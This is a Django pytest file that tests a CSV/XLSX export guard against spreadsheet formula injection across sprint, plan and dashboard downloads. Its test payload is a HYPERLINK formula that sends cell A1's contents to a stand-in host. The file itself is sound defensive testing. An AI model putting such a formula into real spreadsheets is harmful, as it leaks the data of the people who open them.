"""One exports module and its formula guard, on every CSV and XLSX the portal writes (issue #17, 8)."""

from __future__ import annotations

import csv
import datetime
import io
from collections.abc import Iterator, Sequence

import pytest
from django.contrib.auth.models import User
from django.core.cache import cache
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from plans import services as plan_services
from tests.plans.conftest import add_need
from tests.sprints.conftest import make_sprint
from themes.exports import FORMULA_START, Sheet, csv_bytes, spreadsheet_safe, xlsx_bytes
from themes.models import Municipality, RelocationPhase, SprintMethod, ValueChainStep, Visibility

PAYLOAD = '=HYPERLINK("http://example.test/?x="&A1,"klicka")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_starting_like_a_formula_is_neutralised(start: str) -> None:
    assert spreadsheet_safe(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("value", ["Kiruna", "1-2", "", -5, 2.5, None, datetime.date(2026, 1, 1)])
def test_other_cells_are_written_as_they_are(value: object) -> None:
    assert spreadsheet_safe(value) == value


def _csv_cells(body: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";") for cell in row]


def _xlsx_cells(body: bytes) -> list[object]:
    workbook = load_workbook(io.BytesIO(body))
    cells = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                cells.append(cell.value)
    return cells


def _assert_inert(cells: Sequence[object]) -> None:
    texts = [cell for cell in cells if isinstance(cell, str)]
    assert not [t for t in texts if t.startswith(FORMULA_START)]
    assert any(t.startswith("'=HYPERLINK") for t in texts)


def test_the_writers_guard_headers_and_rows() -> None:
    _assert_inert(_csv_cells(csv_bytes([[PAYLOAD], ["x", PAYLOAD]])))
    _assert_inert(_xlsx_cells(xlsx_bytes([Sheet(title=PAYLOAD, header=[PAYLOAD], rows=[[1, PAYLOAD]])])))


@pytest.fixture
def formula_labels(db: None) -> Iterator[None]:
    """A coordinator's edit puts a formula into taxonomy labels that every export shows."""
    for model, code in (
        (RelocationPhase, "visit"),
        (SprintMethod, "test-week"),
        (ValueChainStep, "physical"),
    ):
        term = model.objects.get(code=code)
        term.label_sv = term.label_en = PAYLOAD
        term.save()
    cache.clear()
    yield
    cache.clear()


@pytest.mark.django_db
def test_every_export_neutralises_a_formula_in_a_taxonomy_label(
    client: Client, formula_labels: None, coordinator: User, lead_kiruna: User, kiruna: Municipality
) -> None:
    make_sprint(lead_kiruna, kiruna, title=PAYLOAD, visibility=Visibility.PUBLIC)
    plan = plan_services.action_plan_create(actor=lead_kiruna, municipality=kiruna, period="2026")
    add_need(lead_kiruna, plan, text=PAYLOAD)
    client.force_login(coordinator)

    downloads = {
        "sprints.csv": reverse("sprints:export", args=["csv"]),
        "sprints.xlsx": reverse("sprints:export", args=["xlsx"]),
    }
    plan_args = {"municipality": plan.municipality.slug, "period": plan.period}
    for fmt in ("csv", "xlsx"):
        downloads[f"plan.{fmt}"] = reverse("plans:export", kwargs={**plan_args, "fmt": fmt})
    from dashboard import panels

    board = panels.programme(
        levels=("public", "partners", "internal"), today=timezone.localdate(), shared_segments=True
    )
    for key in board.charts:
        for fmt in ("csv", "xlsx"):
            downloads[f"dashboard {key}.{fmt}"] = f"/dashboard/data/{key}.{fmt}"

    payload_seen = set()
    for name, url in downloads.items():
        response = client.get(url)
        assert response.status_code == 200, name
        cells = _csv_cells(response.content) if name.endswith(".csv") else _xlsx_cells(response.content)
        texts = [c for c in cells if isinstance(c, str)]
        assert not [t for t in texts if t.startswith(FORMULA_START)], name
        if any("HYPERLINK" in t for t in texts):
            payload_seen.add(name)
    # The payload reaches the sprint and plan files and the charts labelled by phase or method, guarded each time.
    assert {"sprints.csv", "sprints.xlsx", "plan.csv", "plan.xlsx"} <= payload_seen
    assert any(name.startswith("dashboard") and name.endswith(".csv") for name in payload_seen)
    assert any(name.startswith("dashboard") and name.endswith(".xlsx") for name in payload_seen)
